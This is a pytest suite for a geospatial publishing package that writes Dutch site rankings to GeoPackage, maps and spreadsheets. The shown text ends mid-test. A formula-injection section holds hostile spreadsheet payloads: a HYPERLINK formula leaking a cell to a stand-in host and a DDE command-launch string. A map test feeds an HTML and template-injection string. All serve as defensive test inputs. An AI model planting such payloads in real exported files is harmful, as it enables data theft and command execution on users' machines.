"""Tests of magicmix_geo.publish on small synthetic frames in EPSG:28992 (Delft, Rotterdam)."""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import os
import re
import sqlite3
import struct
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import folium
import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely
from PIL import Image
from shapely.geometry import LineString, Point, box

from magicmix_geo._errors import InputError, OutputError
from magicmix_geo.provenance import describe_input, file_sha256
from magicmix_geo.publish import gpkg as gpkg_module
from magicmix_geo.publish import (
    rank_national,
    read_manifest,
    write_interactive_map,
    write_manifest,
    write_municipality_gpkg,
    write_national_ranking,
    write_static_map,
)
from magicmix_geo.publish._common import SCORE_BREAKS
from magicmix_geo.publish.maps import build_interactive_map, nice_length, page_text

RD = "EPSG:28992"
STYLE_COLUMNS = [
    "id",
    "f_table_catalog",
    "f_table_schema",
    "f_table_name",
    "f_geometry_column",
    "styleName",
    "styleQML",
    "styleSLD",
    "useAsDefault",
    "description",
    "owner",
    "ui",
    "update_time",
]


def make_sites(
    gm_code: str, x0: float, y0: float, scores: list[float], excluded: list[bool]
) -> gpd.GeoDataFrame:
    """Square sites of 60 m in a row, ranked within the municipality like the pipeline does."""
    n = len(scores)
    frame = gpd.GeoDataFrame(
        {
            "site_id": [f"{gm_code}-{i:03d}" for i in range(n)],
            "gm_code": gm_code,
            "area_m2": 3600.0,
            "dist_supermarket_m": [250.0 + 10 * i if i % 3 else np.nan for i in range(n)],
            "dist_pt_stop_m": [120.0 + 5 * i for i in range(n)],
            "n_supermarket_800m": [i % 4 for i in range(n)],
            "score_transit": [round(s * 0.9, 3) for s in scores],
            "score_shops": scores,
            "score_total": scores,
            "excluded": excluded,
            "exclusion_reason": ["within 300 m of industry" if e else None for e in excluded],
            "reasons_en": [f"site {i}: close to shops" for i in range(n)],
        },
        geometry=[box(x0 + 100 * i, y0, x0 + 100 * i + 60, y0 + 60) for i in range(n)],
        crs=RD,
    )
    kept = frame.loc[~frame["excluded"], "score_total"]
    ranks = kept.rank(ascending=False, method="first").astype("int64")
    frame["rank_gm"] = pd.array([pd.NA] * n, dtype="Int64")
    frame.loc[ranks.index, "rank_gm"] = ranks.to_numpy()
    return frame


@pytest.fixture
def delft_sites() -> gpd.GeoDataFrame:
    return make_sites(
        "GM0503",
        85000,
        447000,
        [0.91, 0.15, 0.55, 0.72, 0.33, 0.88, 0.05],
        [False, True, False, False, True, False, False],
    )


@pytest.fixture
def delft_layers(delft_sites: gpd.GeoDataFrame) -> dict[str, gpd.GeoDataFrame]:
    amenities = gpd.GeoDataFrame(
        {
            "category": ["supermarket", "gp", "park", "primary_school", "supermarket"],
            "name": ["Albert Heijn", None, "Wippolderpark", "De Wilgen", "Jumbo"],
            "osm_id": [101, 102, 103, 104, 105],
        },
        geometry=[
            Point(85010, 447080),
            Point(85230, 447090),
            Point(85420, 446950),
            Point(85600, 447120),
            Point(85700, 447100),
        ],
        crs=RD,
    )
    stops = gpd.GeoDataFrame(
        {
            "category": ["pt_stop", "pt_stop"],
            "name": ["Delft, Mekelpark", None],
            "osm_id": [201, 202],
        },
        geometry=[Point(85100, 447150), Point(85500, 447150)],
        crs=RD,
    )
    boundary = gpd.GeoDataFrame(
        {"gm_code": ["GM0503"], "name": ["Delft"]},
        geometry=[box(84500, 446500, 86500, 448000)],
        crs=RD,
    )
    streets = gpd.GeoDataFrame(
        {"highway": ["residential", "footway"]},
        geometry=[
            LineString([(84500, 447075), (86500, 447075)]),
            LineString([(85300, 446500), (85300, 448000)]),
        ],
        crs=RD,
    )
    return {
        "sites": delft_sites,
        "stops": stops,
        "amenities": amenities,
        "boundary": boundary,
        "streets": streets,
    }


@pytest.fixture
def manifest() -> dict[str, Any]:
    return {
        "run_id": "2024-05-01T02:00:00Z-abc123",
        "software_version": "0.1.0",
        "config_hash": "f" * 64,
        "started": "2024-05-01T02:00:00+00:00",
        "inputs": {
            "osm": {
                "source": "https://download.geofabrik.de/europe/netherlands/zuid-holland.osm.pbf",
                "path": "zuid-holland-latest.osm.pbf",
                "version": "2024-04-30",
                "sha256": "a" * 64,
                "size_bytes": 123,
                "licence": "ODbL 1.0",
                "attribution": "© OpenStreetMap contributors",
            },
            "cbs": {
                "source": "CBS wijk- en buurtkaart 2023",
                "path": "wijkenbuurten_2023.gpkg",
                "version": "2023",
                "sha256": "b" * 64,
                "size_bytes": 456,
                "licence": "CC-BY 4.0",
                "attribution": "Bron: CBS, Kadaster",
            },
        },
    }


def leftovers(folder: Path, keep: set[str]) -> list[str]:
    """Files in ``folder`` other than ``keep`` (temporary files, journals...)."""
    return sorted(p.name for p in folder.iterdir() if p.name not in keep)


# --- GeoPackage -----------------------------------------------------------------------------


def test_gpkg_has_every_layer_in_rd_new_with_all_features(
    tmp_path: Path, delft_layers: dict[str, gpd.GeoDataFrame], manifest: dict[str, Any]
) -> None:
    target = tmp_path / "GM0503_Delft.gpkg"
    write_municipality_gpkg(target, delft_layers, manifest)

    names = {str(name) for name, _ in pyogrio.list_layers(target)}
    assert names == {*delft_layers, "layer_styles"}
    for name, frame in delft_layers.items():
        info = pyogrio.read_info(target, layer=name)
        assert info["crs"] == RD
        assert info["features"] == len(frame)
    back = gpd.read_file(target, layer="sites", engine="pyogrio")
    assert back["site_id"].tolist() == delft_layers["sites"]["site_id"].tolist()
    assert back.geometry.area.round(6).tolist() == [3600.0] * len(back)
    assert leftovers(tmp_path, {target.name}) == []


def test_gpkg_keeps_rank_gm_integer_with_nulls_and_nan_as_null(
    tmp_path: Path, delft_layers: dict[str, gpd.GeoDataFrame], manifest: dict[str, Any]
) -> None:
    target = tmp_path / "out.gpkg"
    write_municipality_gpkg(target, delft_layers, manifest)
    sites = delft_layers["sites"]

    info = pyogrio.read_info(target, layer="sites")
    dtypes = dict(zip(info["fields"], info["dtypes"], strict=True))
    assert dtypes["rank_gm"] == "int64"
    assert dtypes["excluded"] == "bool"
    assert dtypes["score_total"] == "float64"
    with sqlite3.connect(target) as con:
        declared = {row[1]: row[2] for row in con.execute("PRAGMA table_info(sites)")}
        assert declared["rank_gm"] in {"INTEGER", "MEDIUMINT", "BIGINT"}
        null_ranks = con.execute("SELECT count(*) FROM sites WHERE rank_gm IS NULL").fetchone()[0]
        null_dist = con.execute(
            "SELECT count(*) FROM sites WHERE dist_supermarket_m IS NULL"
        ).fetchone()[0]
        ranks = [r[0] for r in con.execute("SELECT rank_gm FROM sites WHERE rank_gm IS NOT NULL")]
    con.close()
    assert null_ranks == int(sites["excluded"].sum())
    assert null_dist == int(sites["dist_supermarket_m"].isna().sum())
    assert sorted(ranks) == list(range(1, len(ranks) + 1))
    assert all(isinstance(r, int) for r in ranks)


def test_gpkg_layer_styles_one_default_qml_per_layer(
    tmp_path: Path, delft_layers: dict[str, gpd.GeoDataFrame], manifest: dict[str, Any]
) -> None:
    target = tmp_path / "out.gpkg"
    # English: the packaged styles' labels (a Dutch file: tests/test_qgis_styles_i18n.py)
    write_municipality_gpkg(target, delft_layers, manifest, lang="en")

    con = sqlite3.connect(target)
    try:
        columns = [row[1] for row in con.execute("PRAGMA table_info(layer_styles)")]
        contents = con.execute(
            "SELECT data_type FROM gpkg_contents WHERE table_name = 'layer_styles'"
        ).fetchall()
        geometry_columns = dict(
            con.execute("SELECT table_name, column_name FROM gpkg_geometry_columns").fetchall()
        )
        rows = con.execute(
            "SELECT f_table_catalog, f_table_schema, f_table_name, f_geometry_column,"
            " styleName, styleQML, useAsDefault, update_time FROM layer_styles"
        ).fetchall()
    finally:
        con.close()
    assert columns == STYLE_COLUMNS
    assert contents == [("attributes",)]
    assert sorted(r[2] for r in rows) == sorted(delft_layers)  # exactly one per layer

    roots: dict[str, ET.Element] = {}
    for catalog, schema, table, geom_col, style_name, qml, default, updated in rows:
        assert (catalog, schema) == ("", "")  # what QGIS's OGR provider looks up
        assert geom_col == geometry_columns[table] == "geom"
        assert style_name == table
        assert default == 1
        dt.datetime.fromisoformat(updated)
        assert qml.startswith("<!DOCTYPE qgis PUBLIC 'http://mrcc.com/qgis.dtd' 'SYSTEM'>")
        root = ET.fromstring(qml)
        assert root.tag == "qgis"
        # written by QGIS 3.22 (Debian bookworm), the oldest we support; newer QGIS reads it
        assert root.get("version", "").startswith("3.22")
        assert root.find("renderer-v2") is not None
        roots[table] = root

    sites_renderer = roots["sites"].find("renderer-v2")
    assert sites_renderer is not None
    assert sites_renderer.get("type") == "graduatedSymbol"
    assert '"score_total"' in sites_renderer.get("attr", "")
    assert '"excluded"' in sites_renderer.get("attr", "")
    ranges = {r.get("label"): r for r in sites_renderer.iter("range")}
    assert [float(ranges[f"{lo:.1f} - {lo + 0.2:.1f}"].get("lower", "")) for lo in SCORE_BREAKS[:5]]
    assert float(ranges["excluded"].get("upper", "")) < 0  # the expression maps excluded to -1
    label_fields = [ts.get("fieldName") for ts in roots["sites"].iter("text-style")]
    assert label_fields == ["rank_gm"]
    assert roots["sites"].get("labelsEnabled") == "1"
    amenity_renderer = roots["amenities"].find("renderer-v2")
    assert amenity_renderer is not None
    assert amenity_renderer.get("type") == "categorizedSymbol"
    assert amenity_renderer.get("attr") == "category"
    values = {c.get("value") for c in amenity_renderer.iter("category")}
    assert values >= {"supermarket", "gp", "park"}
    boundary_fill = roots["boundary"].find(".//layer[@class='SimpleFill']/Option")
    assert boundary_fill is not None
    assert {o.get("name"): o.get("value") for o in boundary_fill}["style"] == "no"
    # a context layer without its own style gets the default of its geometry kind
    street_layer = roots["streets"].find(".//layer")
    assert street_layer is not None
    assert street_layer.get("class") == "SimpleLine"


def test_gpkg_stores_manifest_in_metadata_extension(
    tmp_path: Path, delft_layers: dict[str, gpd.GeoDataFrame], manifest: dict[str, Any]
) -> None:
    target = tmp_path / "out.gpkg"
    write_municipality_gpkg(target, delft_layers, manifest)

    assert read_manifest(target) == manifest
    con = sqlite3.connect(target)
    try:
        ((scope, mime, text),) = con.execute(
            "SELECT md_scope, mime_type, metadata FROM gpkg_metadata"
        ).fetchall()
        references = con.execute(
            "SELECT reference_scope, table_name, md_file_id FROM gpkg_metadata_reference"
        ).fetchall()
        extensions = con.execute(
            "SELECT table_name FROM gpkg_extensions WHERE extension_name = 'gpkg_metadata'"
        ).fetchall()
        assert con.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert con.execute("PRAGMA foreign_key_check").fetchall() == []
    finally:
        con.close()
    assert (scope, mime) == ("dataset", "application/json")
    assert json.loads(text)["run_id"] == manifest["run_id"]
    assert references == [("geopackage", None, 1)]
    assert sorted(e[0] for e in extensions) == ["gpkg_metadata", "gpkg_metadata_reference"]
    # GDAL sees it too
    dataset_metadata = pyogrio.read_info(target, layer="sites")["dataset_metadata"]
    assert any(json.loads(v)["run_id"] == manifest["run_id"] for v in dataset_metadata.values())


def test_gpkg_wrong_crs_is_refused_and_leaves_no_file(
    tmp_path: Path, delft_layers: dict[str, gpd.GeoDataFrame], manifest: dict[str, Any]
) -> None:
    layers = dict(delft_layers)
    layers["amenities"] = layers["amenities"].to_crs(4326)
    target = tmp_path / "out.gpkg"
    with pytest.raises(ValueError, match="amenities"):
        write_municipality_gpkg(target, layers, manifest)
    assert leftovers(tmp_path, set()) == []


def test_gpkg_failure_mid_write_keeps_previous_file(
    tmp_path: Path,
    delft_layers: dict[str, gpd.GeoDataFrame],
    manifest: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    target = tmp_path / "out.gpkg"
    write_municipality_gpkg(target, delft_layers, manifest)
    before = target.read_bytes()

    def broken(*_args: object) -> None:
        raise RuntimeError("disk gone")

    # all layers are written by then; only the styles step fails
    monkeypatch.setattr(gpkg_module, "_add_layer_styles", broken)
    with pytest.raises(RuntimeError, match="disk gone"):
        write_municipality_gpkg(target, delft_layers, {**manifest, "run_id": "second"})
    assert leftovers(tmp_path, {target.name}) == []
    assert target.read_bytes() == before
    assert read_manifest(target) == manifest


def test_gpkg_written_without_flushes_leaves_gdal_options_as_they_were(
    tmp_path: Path,
    delft_layers: dict[str, gpd.GeoDataFrame],
    manifest: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    option = gpkg_module.SQLITE_SYNC_OPTION
    seen: list[str | None] = []
    write_layer = gpkg_module._write_layer

    def spy(*args: Any) -> None:
        seen.append(pyogrio.get_gdal_config_option(option))
        write_layer(*args)

    monkeypatch.setattr(gpkg_module, "_write_layer", spy)
    pyogrio.set_gdal_config_options({option: "FULL"})
    try:
        target = tmp_path / "out.gpkg"
        write_municipality_gpkg(target, delft_layers, manifest)
        # each layer was written unflushed (pyogrio reads "OFF" back as False); the
        # caller's setting is back afterwards
        assert seen == [False] * len(delft_layers)
        assert pyogrio.get_gdal_config_option(option) == "FULL"
        with sqlite3.connect(target) as con:
            assert con.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        # also after a failed write
        monkeypatch.setattr(gpkg_module, "_finish_gpkg", _fail)
        with pytest.raises(RuntimeError, match="disk gone"):
            write_municipality_gpkg(tmp_path / "second.gpkg", delft_layers, manifest)
        assert pyogrio.get_gdal_config_option(option) == "FULL"
        assert not (tmp_path / "second.gpkg").exists()
    finally:
        pyogrio.set_gdal_config_options({option: None})


def _fail(*_args: object) -> None:
    raise RuntimeError("disk gone")


def test_gpkg_empty_layer_gets_its_geometry_type(
    tmp_path: Path, delft_layers: dict[str, gpd.GeoDataFrame], manifest: dict[str, Any]
) -> None:
    layers = dict(delft_layers)
    layers["stops"] = layers["stops"].iloc[0:0]
    target = tmp_path / "out.gpkg"
    write_municipality_gpkg(target, layers, manifest)
    info = pyogrio.read_info(target, layer="stops")
    assert info["features"] == 0
    assert info["geometry_type"] == "Point"


def test_gpkg_rejects_reserved_layer_name(
    tmp_path: Path, delft_layers: dict[str, gpd.GeoDataFrame]
) -> None:
    with pytest.raises(ValueError, match="reserved"):
        write_municipality_gpkg(tmp_path / "x.gpkg", {"layer_styles": delft_layers["sites"]}, {})


# --- maps -----------------------------------------------------------------------------------


def png_size(path: Path) -> tuple[int, int]:
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    assert data[12:16] == b"IHDR"
    width, height = struct.unpack(">II", data[16:24])
    return width, height


def test_static_map_is_a_png_of_reasonable_size(
    tmp_path: Path, delft_layers: dict[str, gpd.GeoDataFrame]
) -> None:
    target = tmp_path / "maps" / "GM0503.png"
    buildings = gpd.GeoDataFrame(geometry=[box(85070, 447010, 85090, 447030)], crs=RD)
    pixels = write_static_map(
        target,
        delft_layers["sites"],
        delft_layers["boundary"],
        title="GM0503 Delft: Magic Mix sites",
        context={"streets": delft_layers["streets"], "buildings": buildings},
    )
    width, height = png_size(target)
    assert 800 <= width <= 4000
    assert 400 <= height <= 4000
    assert 10_000 < target.stat().st_size < 5_000_000
    assert leftovers(target.parent, {target.name}) == []
    # the pixels it returns (the PDF report shows them) are the PNG's
    with Image.open(target) as png:
        assert np.array_equal(np.asarray(png.convert("RGB")), pixels)


def test_static_map_refuses_wrong_crs(
    tmp_path: Path, delft_layers: dict[str, gpd.GeoDataFrame]
) -> None:
    with pytest.raises(ValueError, match="boundary"):
        write_static_map(
            tmp_path / "m.png",
            delft_layers["sites"],
            delft_layers["boundary"].to_crs(4326),
            title="x",
        )
    assert leftovers(tmp_path, set()) == []


def test_interactive_map_shows_sites_without_tiles(
    tmp_path: Path, delft_layers: dict[str, gpd.GeoDataFrame]
) -> None:
    target = tmp_path / "maps" / "GM0503.html"
    sites = delft_layers["sites"]
    write_interactive_map(
        target, sites, delft_layers["boundary"], amenities=delft_layers["amenities"], title="Delft"
    )
    page = target.read_text(encoding="utf-8")
    # the vendored Leaflet library is inlined; the checks below are about our data
    text = re.sub(r"<script>/\* @preserve.*?</script>", "", page, flags=re.S)
    assert len(text) < len(page) - 100_000
    assert "L.map" in text
    assert "L.geoJson" in text or "L.geoJSON" in text
    for site_id in sites["site_id"]:
        assert site_id in text
    assert "within 300 m of industry" in text  # exclusion reason of the grey sites
    assert "dist_supermarket_m" in text
    assert "unreachable" in text  # a null distance, said plainly
    assert "score_transit" in text
    assert "site 0: close to shops" in text
    assert "supermarket" in text
    assert "OpenStreetMap contributors" in text
    assert "NaN" not in text
    # coordinates are lon/lat around Delft, not RD metres
    assert "4.3" in text and "52.0" in text
    assert "85000" not in text
    assert leftovers(target.parent, {target.name}) == []


def test_interactive_map_layers_carry_what_geopandas_writes(
    delft_layers: dict[str, gpd.GeoDataFrame],
) -> None:
    """The excluded sites' layer holds the FeatureCollection geopandas' ``to_json`` writes of
    the same simplified, reprojected and rounded sites (an independent serialiser), with the
    texts HTML-escaped and braces as character references; features numbered 0..n-1."""
    sites = delft_layers["sites"].copy()
    sites.loc[sites["excluded"], "site_id"] = ["<b>{{ 7*7 }}</b>", "x & 'y'"]
    sites["exclusion_reason"] = sites["exclusion_reason"].astype(object)
    fmap = build_interactive_map(
        sites, delft_layers["boundary"], amenities=delft_layers["amenities"], title="Delft"
    )
    layers = {c.layer_name: c for c in fmap._children.values() if isinstance(c, folium.GeoJson)}
    data = layers["excluded sites"].data
    excluded = sites[sites["excluded"]][["site_id", "exclusion_reason", "geometry"]]
    web = excluded.reset_index(drop=True)
    web.geometry = web.geometry.simplify(4.0, preserve_topology=True)
    web = web.to_crs(4326)
    web.geometry = shapely.transform(web.geometry.to_numpy(), lambda xy: np.round(xy, 5))
    expected = json.loads(web.to_json(na="null"))
    for feature in expected["features"]:
        feature.pop("bbox", None)
        feature["properties"] = {
            k: v if not isinstance(v, str) else page_text(v)
            for k, v in feature["properties"].items()
        }
    assert data["features"] == expected["features"]
    shown = [f["properties"]["site_id"] for f in data["features"]]
    assert shown == ["&lt;b&gt;&#123;&#123; 7*7 &#125;&#125;&lt;/b&gt;", "x &amp; &#x27;y&#x27;"]


def test_nice_length() -> None:
    assert nice_length(430) == 200
    assert nice_length(999) == 500
    assert nice_length(1000) == 1000
    assert nice_length(2.5) == 2
    with pytest.raises(ValueError):
        nice_length(0)


# --- national ranking -----------------------------------------------------------------------


@pytest.fixture
def national_sites(delft_sites: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
    rotterdam = make_sites(
        "GM0599",
        92000,
        437000,
        [0.91, 0.60, 0.99, 0.40],  # 0.91 ties with Delft's best: GM0503 goes first
        [False, False, False, True],
    )
    return gpd.GeoDataFrame(pd.concat([rotterdam, delft_sites], ignore_index=True), crs=RD)


METHOD = [
    ("transit", "walking distance to the nearest stop, lower is better"),
    ("shops", "walking distance to the nearest supermarket, lower is better"),
]


def test_rank_national_orders_all_non_excluded_sites(national_sites: gpd.GeoDataFrame) -> None:
    ranked = rank_national(national_sites)
    kept = national_sites[~national_sites["excluded"]]
    assert len(ranked) == len(kept)
    assert ranked["rank_nl"].tolist() == list(range(1, len(kept) + 1))
    assert str(ranked["rank_nl"].dtype) == "Int64"
    assert not ranked["excluded"].any()
    assert ranked["score_total"].is_monotonic_decreasing
    assert ranked.loc[:2, "site_id"].tolist() == ["GM0599-002", "GM0503-000", "GM0599-000"]
    assert set(ranked["gm_code"]) == {"GM0503", "GM0599"}


def test_rank_national_refuses_repeated_sites(national_sites: gpd.GeoDataFrame) -> None:
    doubled = gpd.GeoDataFrame(pd.concat([national_sites, national_sites.iloc[:1]]), crs=RD)
    with pytest.raises(ValueError, match="more than once"):
        rank_national(doubled)


def test_write_national_ranking_files(
    tmp_path: Path, national_sites: gpd.GeoDataFrame, manifest: dict[str, Any]
) -> None:
    ranked = write_national_ranking(tmp_path, national_sites, manifest=manifest, method=METHOD)
    n = int((~national_sites["excluded"]).sum())
    assert len(ranked) == n
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "national_ranking.csv",
        "national_ranking.gpkg",
        "national_ranking.xlsx",
    ]

    layer = gpd.read_file(
        tmp_path / "national_ranking.gpkg", layer="national_ranking", engine="pyogrio"
    )
    assert layer.crs == RD
    assert layer["rank_nl"].tolist() == list(range(1, n + 1))
    assert read_manifest(tmp_path / "national_ranking.gpkg") == manifest
    con = sqlite3.connect(tmp_path / "national_ranking.gpkg")
    try:
        ((qml,),) = con.execute(
            "SELECT styleQML FROM layer_styles WHERE f_table_name = 'national_ranking'"
        ).fetchall()
    finally:
        con.close()
    assert [t.get("fieldName") for t in ET.fromstring(qml).iter("text-style")] == ["rank_nl"]
    # the summary, method, attribution and manifest travel with the layer, as tables
    listed = pyogrio.list_layers(tmp_path / "national_ranking.gpkg")
    tables = {str(name): kind for name, kind in listed}
    assert {"municipalities", "method", "attribution", "manifest"} <= set(tables)
    assert tables["method"] is None  # no geometry
    summary = pyogrio.read_dataframe(tmp_path / "national_ranking.gpkg", layer="municipalities")
    assert summary.set_index("gm_code").loc["GM0503", "ranked"] == 5

    csv = pd.read_csv(tmp_path / "national_ranking.csv")
    assert list(csv.columns[:5]) == ["rank_nl", "gm_code", "site_id", "rank_gm", "score_total"]
    expected = {"score_transit", "score_shops", "dist_supermarket_m", "dist_pt_stop_m"}
    assert expected | {"x_rd", "y_rd"} <= set(csv.columns)
    assert "geometry" not in csv.columns
    assert csv["rank_nl"].tolist() == list(range(1, n + 1))
    assert csv["x_rd"].between(84000, 94000).all()
    assert csv["y_rd"].between(436000, 448000).all()

    book = openpyxl.load_workbook(tmp_path / "national_ranking.xlsx", read_only=True)
    try:
        assert book.sheetnames == ["ranking", "municipalities", "method", "attribution", "manifest"]
        sheets = {name: list(book[name].iter_rows(values_only=True)) for name in book.sheetnames}
    finally:
        book.close()
    assert len(sheets["ranking"]) == n + 1
    assert sheets["ranking"][0][:3] == ("rank_nl", "gm_code", "site_id")
    assert [row[0] for row in sheets["ranking"][1:]] == list(range(1, n + 1))

    header, *rows = sheets["municipalities"]
    by_gm = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert by_gm["GM0503"]["sites"] == 7
    assert by_gm["GM0503"]["excluded"] == 2
    assert by_gm["GM0503"]["ranked"] == 5
    assert by_gm["GM0599"]["best_score"] == pytest.approx(0.99)
    assert by_gm["GM0599"]["median_score"] == pytest.approx(0.91)

    assert sheets["method"][0] == ("criterion", "description")
    assert [r[0] for r in sheets["method"][1:]] == ["transit", "shops"]

    attribution = [" ".join(str(v) for v in row if v is not None) for row in sheets["attribution"]]
    assert any("© OpenStreetMap contributors" in r and "ODbL" in r for r in attribution)
    assert any("Bron: CBS, Kadaster" in r and "CC-BY 4.0" in r for r in attribution)
    assert any("cbs" in r and "wijk- en buurtkaart" in r for r in attribution)

    flat = {row[0]: row[1] for row in sheets["manifest"][1:]}
    assert flat["run_id"] == manifest["run_id"]
    assert flat["inputs.osm.sha256"] == "a" * 64
    written = {f"national_ranking.{ext}" for ext in ("csv", "gpkg", "xlsx")}
    assert leftovers(tmp_path, written) == []


# --- manifest -------------------------------------------------------------------------------


def test_file_sha256_and_describe_input(tmp_path: Path) -> None:
    data = b"<osm version='0.6'></osm>\n" * 1000
    path = tmp_path / "extract.osm"
    path.write_bytes(data)
    assert file_sha256(path) == hashlib.sha256(data).hexdigest()

    described = describe_input(
        path,
        source="test",
        licence="ODbL 1.0",
        attribution="© OpenStreetMap contributors",
        version=None,
    )
    assert described["path"] == "extract.osm"
    assert described["sha256"] == hashlib.sha256(data).hexdigest()
    assert described["size_bytes"] == len(data)
    assert dt.datetime.fromisoformat(described["version"]).tzinfo is not None
    assert (
        describe_input(path, source="s", licence="l", attribution="a", version="2024-05-01")[
            "version"
        ]
        == "2024-05-01"
    )
    with pytest.raises(InputError, match=r"missing\.osm"):
        file_sha256(tmp_path / "missing.osm")


def test_remembered_checksum_follows_a_rewritten_file(tmp_path: Path) -> None:
    # describe_input remembers checksums per process (a national file named by every
    # municipality): a file rewritten in place, same size and modification time put back,
    # or replaced by another file under its name, is hashed again
    path = tmp_path / "cbs.gpkg"
    first, second = b"a" * 4096, b"b" * 4096
    path.write_bytes(first)
    stat = path.stat()

    def described() -> str:
        entry = describe_input(path, source="cbs", licence="l", attribution="a", version="v")
        return str(entry["sha256"])

    assert described() == hashlib.sha256(first).hexdigest()
    path.write_bytes(second)
    os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert path.stat().st_mtime_ns == stat.st_mtime_ns and path.stat().st_size == stat.st_size
    assert described() == hashlib.sha256(second).hexdigest()
    other = tmp_path / "other.gpkg"
    other.write_bytes(first)
    os.utime(other, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    other.replace(path)
    assert described() == hashlib.sha256(first).hexdigest()
    path.unlink()
    with pytest.raises(InputError, match=r"cbs\.gpkg"):
        described()


def test_write_manifest_is_sorted_json(tmp_path: Path, manifest: dict[str, Any]) -> None:
    target = tmp_path / "run" / "manifest.json"
    extra = {**manifest, "out_dir": tmp_path, "ended": dt.datetime(2024, 5, 1, 3, tzinfo=dt.UTC)}
    write_manifest(target, extra)
    text = target.read_text(encoding="utf-8")
    back = json.loads(text)
    assert back["out_dir"] == str(tmp_path)
    assert back["ended"] == "2024-05-01T03:00:00+00:00"
    assert list(back) == sorted(back)
    assert text.startswith('{\n  "config_hash"')
    assert leftovers(target.parent, {"manifest.json"}) == []


def test_write_manifest_into_a_file_is_an_output_error(tmp_path: Path) -> None:
    blocker = tmp_path / "not_a_dir"
    blocker.write_text("x")
    with pytest.raises(OutputError, match="not_a_dir"):
        write_manifest(blocker / "manifest.json", {"run_id": "x"})


def test_workbook_keeps_the_best_rows_when_a_sheet_exceeds_excel(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A national list longer than an xlsx sheet keeps its first rows and says so."""
    from openpyxl import load_workbook

    from magicmix_geo.publish import lists

    monkeypatch.setattr(lists, "XLSX_MAX_ROWS", 3)
    frame = pd.DataFrame({"rank_nl": range(1, 11), "site_id": [f"S{i}" for i in range(10)]})
    path = tmp_path / "book.xlsx"
    lists._write_workbook(path, {"ranking": frame, "method": frame.head(2)}, "en")
    book = load_workbook(path, read_only=True)
    rows = list(book["ranking"].values)
    assert [r[0] for r in rows[1:]] == [1, 2, 3]
    notes = list(book["notes"].values)
    assert notes[1][0] == "ranking" and "10 rows" in notes[1][1]


# --- formula injection (issue #16) --------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=2+2",
    "\r=2+2",
    "\uff1d1+1",
]


def test_text_that_looks_like_a_formula_is_text_in_csv_and_xlsx(
    tmp_path: Path, manifest: dict[str, Any]
) -> None:
    ids = [*FORMULAS, "-12.5", "http://example.invalid/x"]
    sites = make_sites(
        "GM0503", 85000, 447000, [0.9 - 0.05 * i for i in range(len(ids))], [False] * len(ids)
    )
    sites["site_id"] = ids
    sites.loc[0, "reasons_en"] = "=1+1"
    write_national_ranking(tmp_path, sites, manifest=manifest, method=METHOD)

    book = openpyxl.load_workbook(tmp_path / "national_ranking.xlsx")  # not read-only: types
    try:
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        links = [c.coordinate for c in cells if c.hyperlink is not None]
        ranking = [[c.value for c in row] for row in book["ranking"].iter_rows()]
    finally:
        book.close()
    assert formulas == [] and links == []
    header = ranking[0]
    column = {name: [row[header.index(name)] for row in ranking[1:]] for name in header}
    # xlsx stores a CR as the escape _x000D_ (ECMA-376), which openpyxl leaves as it is
    shown = {v.replace("_x000D_", "\r") for v in column["site_id"]}
    for text in FORMULAS:
        assert "'" + text in shown, text
    assert "-12.5" in shown and "http://example.invalid/x" in shown  # no formula: as it was
    assert "'=1+1" in column["reasons_en"]
    # numbers stay numbers
    assert all(isinstance(v, int) for v in column["rank_nl"])
    assert all(isinstance(v, float) for v in column["score_total"])

    with (tmp_path / "national_ranking.csv").open(encoding="utf-8", newline="") as fh:
        import csv

        rows = list(csv.reader(fh))
    head, body = rows[0], rows[1:]
    for row in body:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r", "\uff1d")), value
            if value.startswith("-"):
                float(value)  # a negative number, not a formula
    texts = {row[head.index("site_id")] for row in body}
    assert {"'" + t for t in FORMULAS} <= texts and "-12.5" in texts
    scores = [float(row[head.index("score_total")]) for row in body]
    assert scores == sorted(scores, reverse=True)


def test_spreadsheet_text() -> None:
    from magicmix_geo.publish.cells import spreadsheet_text

    assert spreadsheet_text("=1+1") == "'=1+1"
    assert spreadsheet_text("-1+1") == "'-1+1"
    assert spreadsheet_text("-1") == "-1" and spreadsheet_text("+3.5e2") == "+3.5e2"
    assert spreadsheet_text("Delft, Wippolder") == "Delft, Wippolder"
    assert spreadsheet_text("'=already") == "'=already"
    assert spreadsheet_text("") == ""


def test_compound_paths_fill_overlaps_and_holes_as_the_polygons_do(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import shapely
    from matplotlib.backends.backend_agg import FigureCanvasAgg
    from matplotlib.collections import PathCollection
    from matplotlib.figure import Figure

    from magicmix_geo.publish import maps

    # two overlapping squares of opposite orientation, and a clockwise square with a
    # clockwise hole: one compound path fills the overlap and leaves the hole empty
    ccw = shapely.Polygon([(0, 0), (6, 0), (6, 6), (0, 6)])
    cw = shapely.Polygon([(4, 4), (4, 10), (10, 10), (10, 4)])
    holed = shapely.Polygon(
        [(12, 0), (12, 10), (22, 10), (22, 0)], [[(14, 2), (14, 8), (20, 8), (20, 2)]]
    )
    parts = np.array([ccw, cw, holed], dtype=object)
    paths = maps.compound_paths(parts, closed=True)
    assert len(paths) == 1
    expected = shapely.get_coordinates(
        shapely.get_rings(shapely.orient_polygons(parts, exterior_cw=False))
    )
    assert np.allclose(paths[0].vertices, expected)

    figure = Figure(figsize=(2.2, 1.0), dpi=100)
    canvas = FigureCanvasAgg(figure)
